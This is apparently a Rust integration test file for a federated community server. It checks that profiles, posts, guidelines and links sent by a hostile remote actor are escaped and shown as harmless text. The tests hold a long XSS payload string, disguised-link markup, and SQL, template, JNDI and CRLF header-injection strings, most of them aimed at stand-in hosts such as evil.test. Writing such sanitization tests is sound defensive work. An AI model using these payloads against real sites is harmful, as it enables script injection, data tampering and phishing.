//! Words that are made to do harm where they are shown.

use http::StatusCode;
use serde_json::{Value, json};

use super::Ground;
use crate::support::{FakeActor, TestNode, World, in_production, read_page};

/// Markup that would run, load or submit something; each piece of it says `evil`.
const EVIL: &str = concat!(
    "<p>words</p><script>evil()</script><img src=x onerror=evil()><svg/onload=evil()><iframe src=//evil.test></iframe>",
    "<form action=https://evil.test><input name=evil></form><style>@import '//evil.test'</style><base href=//evil.test>",
    "<a href=\"javascript:evil()\">a</a><a href=\"data:text/html,evil\">b</a><p style=\"background:url(//evil.test)\">c</p>",
    "<math><mtext><table><mglyph><style><img src onerror=evil()>",
    "<noscript><p title=\"</noscript><img src=x onerror=evil()>\"><template><script>evil()</script></template>",
    "<!--<img src=\"--><img src=x onerror=evil()//\">",
    "<a href=\"https://good.test\" class=\"invisible\" onclick=evil()>d</a>",
    "\"><script>evil()</script>",
    "{{evil}}",
);

/// No tag of the page comes from [`EVIL`]; as text it may be shown.
#[track_caller]
fn assert_harmless(page: &str, place: &str) {
    assert!(page.contains("</html>"), "{place} is a page");
    for tag in page.split('<').skip(1).filter_map(|piece| piece.split_once('>')).map(|(tag, _)| tag) {
        let names: String = tag.split('"').step_by(2).collect::<Vec<_>>().join(" ").to_lowercase();
        let (is_link, parts): (bool, Vec<&str>) = (tag.starts_with("a "), tag.split('"').collect());
        assert!(
            ![" on", "/on", "style=", "evil"].iter().any(|part| names.contains(part)),
            "<{tag}> at {place}"
        );
        for pair in parts.chunks(2).filter(|pair| pair.len() == 2) {
            let leads = ["src=", "href=", "action=", "formaction="]
                .iter()
                .any(|name| pair[0].trim_start().ends_with(name));
            let bad = ["javascript:", "data:"].iter().any(|scheme| pair[1].trim_start().starts_with(scheme));
            assert!(!(leads && (bad || (!is_link && pair[1].contains("evil")))), "<{tag}> at {place}");
            assert!(!(pair[0].ends_with("class=") && pair[1].contains("invisible")), "<{tag}> at {place}");
        }
    }
    for raw in ["<script>", "<iframe", "<math", "<template", "<base", "onerror=evil()>", "<style", "<!--<img"]
    {
        assert!(!page.contains(raw), "{raw} at {place}");
    }
}

async fn assert_page_harmless(node: &TestNode, path: &str) -> String {
    let page = read_page(node, path).await;
    assert_harmless(&page, path);
    page
}

/// A guideline whose every text is hostile.
fn hostile_guideline(by: &FakeActor, community: &str) -> Value {
    let mut article = by.page("guideline", community, &format!("Guideline {EVIL}"));
    article["type"] = json!("Article");
    article["content"] = json!(EVIL);
    article["summary"] = json!(EVIL);
    article["schema:learningResourceType"] = json!("guideline");
    article["schema:license"] = json!(EVIL);
    article["tag"] = json!([{"type": "Hashtag", "name": "#<script>evil()</script>"}, {"type": "Hashtag", "name": "#\"onload=evil()"}]);
    article["attachment"] = json!([
        {"type": "Document", "mediaType": "text/html\" onload=\"evil()", "url": "https://good.test/a", "name": EVIL},
        {"type": "Image", "mediaType": "image/png", "url": "https://good.test/a.png", "name": EVIL},
        {"type": "Link", "href": "javascript:evil()", "name": EVIL},
        {"type": "Link", "href": "https://good.test/?\"onload=evil()", "name": EVIL},
    ]);
    article
}

in_production! {
    async fn threat_075_threat_077_threat_078_no_page_shows_markup_that_others_wrote(world: World) {
        let ground = Ground::new(&world).await;
        let (node, hostile, group) = (&ground.node, &ground.hostile, &ground.community.uri);
        let mut mallory = hostile.person("marv");
        mallory.document["name"] = json!(format!("Mallory {EVIL}"));
        mallory.document["summary"] = json!(EVIL);
        mallory.document["attachment"] = json!([{"type": "PropertyValue", "name": EVIL, "value": EVIL}]);
        hostile.serve(&mallory.path(), &mallory.document);
        // A thread, changed; an answer in Markdown; a guideline in two versions; and a removal with a reason.
        let mut page = mallory.page("thread", group, &format!("Title {EVIL}"));
        page["content"] = json!(EVIL);
        mallory.tell(node, &mallory.activity_in(group, "Create", "create/1", &page)).await;
        page["content"] = json!(format!("<p>changed</p>{EVIL}"));
        page["name"] = json!(format!("Changed {EVIL}"));
        page["updated"] = json!(mallory.now(60));
        mallory.tell(node, &mallory.activity_in(group, "Update", "update/1", &page)).await;
        let mut note = mallory.note("answer", group, &mallory.below("thread"), "");
        note["content"] = json!(EVIL);
        note["mediaType"] = json!("text/markdown");
        mallory.tell(node, &mallory.activity_in(group, "Create", "create/2", &note)).await;
        let mut mapped = mallory.note("mapped", group, &mallory.below("thread"), "");
        mapped["content"] = json!(null);
        mapped["contentMap"] = json!({"en": EVIL});
        mapped["source"] = json!({"content": EVIL, "mediaType": "text/markdown"});
        mallory.tell(node, &mallory.activity_in(group, "Create", "create/3", &mapped)).await;
        let mut article = hostile_guideline(&mallory, group);
        mallory.tell(node, &mallory.activity_in(group, "Create", "create/4", &article)).await;
        article["content"] = json!(format!("<p>second</p>{EVIL}"));
        article["updated"] = json!(mallory.now(60));
        mallory.tell(node, &mallory.activity_in(group, "Update", "update/4", &article)).await;
        let removed = node.post(&mallory.below("answer")).await.expect("the answer is taken");
        node.remove(&ground.ann, removed.id, &EVIL[..300]).await;

        let thread = node.post(&mallory.below("thread")).await.expect("the thread is taken").id;
        let guideline = node.post(&mallory.below("guideline")).await.expect("the guideline is taken").id;
        let person = "/u/marv@hostile.test".to_owned();
        let mut places = vec!["/c/sepsis".to_owned(), "/c/sepsis/topics".to_owned(), "/c/sepsis/library".to_owned()];
        places.extend(["/c/sepsis/log".to_owned(), "/c/sepsis/people".to_owned(), "/explore?q=words".to_owned(), person]);
        places.extend([format!("/p/{thread}/history"), format!("/r/{guideline}"), format!("/r/{guideline}/versions")]);
        places.push(format!("/r/{guideline}/diff?from=1&to=2"));
        for place in &places {
            assert_page_harmless(node, place).await;
        }
        let shown = assert_page_harmless(node, &format!("/p/{thread}")).await;
        assert!(shown.contains("changed</p>"), "what is harmless stays");
    }
}

in_production! {
    async fn threat_076_threat_079_a_link_shows_where_it_leads(world: World) {
        let ground = Ground::new(&world).await;
        let (node, hostile) = (&ground.node, &ground.hostile);
        let mut mallory = hostile.person("linker");
        let hidden = "<a href=\"https://evil.test/\" rel=\"me\"><span class=\"invisible\">https://evil.test/?</span>\
                      <span class=\"ellipsis\">good.test</span></a>";
        mallory.document["attachment"] = json!([
            {"type": "PropertyValue", "name": "Home", "value": hidden},
            {"type": "PropertyValue", "name": "Other", "value": "<a href=\"https://good.test@evil.test/\">good.test</a>"},
        ]);
        mallory.document["summary"] = json!(hidden);
        hostile.serve(&mallory.path(), &mallory.document);
        mallory.tell(node, &ground.like(&mallory, "like/1")).await;
        let page = read_page(node, "/u/linker@hostile.test").await;
        assert!(page.contains("https://evil.test/?") && !page.contains("class=\"invisible\""), "{page}");
        assert!(!page.contains("ellipsis\"") && !page.contains("good.test@evil.test"), "{page}");
        assert!(!page.contains("rel=\"me\""), "nobody has verified it");
    }
}

in_production! {
    async fn threat_086_what_means_something_elsewhere_is_only_text_here(world: World) {
        let ground = Ground::new(&world).await;
        let (node, hostile, group) = (&ground.node, &ground.hostile, &ground.community.uri);
        let nasty = "'); DROP TABLE posts; -- %_\\ {{7*7}} ${jndi:ldap://e.test} $1 ?1 :a \u{0} \r\nSet-Cookie: a=b";
        let mut mallory = hostile.person("quote'r");
        assert!(ground.like(&mallory, "x")["actor"].as_str().unwrap().contains('\''));
        mallory.document["preferredUsername"] = json!("quoter");
        mallory.document["name"] = json!(nasty);
        mallory.document["summary"] = json!(nasty);
        mallory.document["inbox"] = json!(hostile.url("/inbox');DROP-TABLE-peers;--?a=$1&b=%27"));
        mallory.document["endpoints"] = json!({"sharedInbox": hostile.url("/shared'||pg_sleep(9)||'")});
        hostile.serve(&mallory.path(), &mallory.document);
        let mut page = mallory.page("p');DROP-TABLE-posts;--", group, nasty);
        page["content"] = json!(nasty);
        page["tag"] = json!([{"type": "Hashtag", "name": "#'; DROP TABLE tags"}, {"type": "Hashtag", "name": "#%"}]);
        let create = mallory.activity_in(group, "Create", "create/'1'", &page);
        mallory.tell(node, &create).await;
        mallory.tell(node, &mallory.activity("Follow", "follow/'1'", &json!(group))).await;
        let post = node.post(page["id"].as_str().unwrap()).await.expect("odd text is text");
        assert!(post.title.unwrap().starts_with("'); DROP TABLE posts; -- %_\\ {{7*7}}"));
        let shown = read_page(node, &format!("/p/{}", post.id)).await;
        assert!(shown.contains("{{7*7}}") && shown.contains("${jndi:"));
        crate::support::until("the odd inbox to be written to", async || !hostile.received("Accept").is_empty()).await;
        for query in ["%25", "_", "%27%20OR%201=1--", "%5C", "%22*%22", "NEAR(", "%0D%0ASet-Cookie:zebra"] {
            let found = read_page(node, &format!("/explore?q={query}")).await;
            assert!(!found.contains("The sepsis community"), "{query} stands for itself");
        }
        // A NUL, which PostgreSQL takes nowhere, harms nobody who delivers in the same moment.
        for field in ["id", "object", "inner"] {
            let mut like = ground.like(&mallory, "like/0");
            let nul = json!(hostile.url("/\0"));
            if field == "inner" {
                like["object"] = json!({"type": "Like", "actor": nul, "object": nul});
            } else {
                like[field] = nul;
            }
            let other = ground.like(&ground.bob, &format!("like/{field}"));
            let (bad, good) = tokio::join!(mallory.deliver(node, &like), ground.bob.deliver(node, &other));
            assert!(bad.as_u16() < 500 && good == StatusCode::ACCEPTED, "{field}: {bad} and {good}");
        }
        assert!(read_page(node, "/explore?q=sepsis").await.contains("The sepsis community"));
        ground.alice_posts("after").await;
    }
}
